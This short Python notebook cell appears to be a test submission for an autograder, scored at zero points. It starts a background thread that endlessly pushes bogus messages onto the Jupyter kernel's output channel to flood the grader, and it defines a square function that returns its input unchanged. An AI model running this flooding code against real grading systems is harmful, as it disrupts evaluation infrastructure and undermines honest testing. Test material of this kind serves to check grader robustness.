"""The code floods the grader with what is no message of Jupyter's, in a thread, while its cell goes on."""
# points: 0 *

import threading

kernel = get_ipython().kernel


def flood():
    while True:
        kernel.iopub_thread.send_multipart([b"x"])


threading.Thread(target=flood, daemon=True).start()


def square(x):
    return x
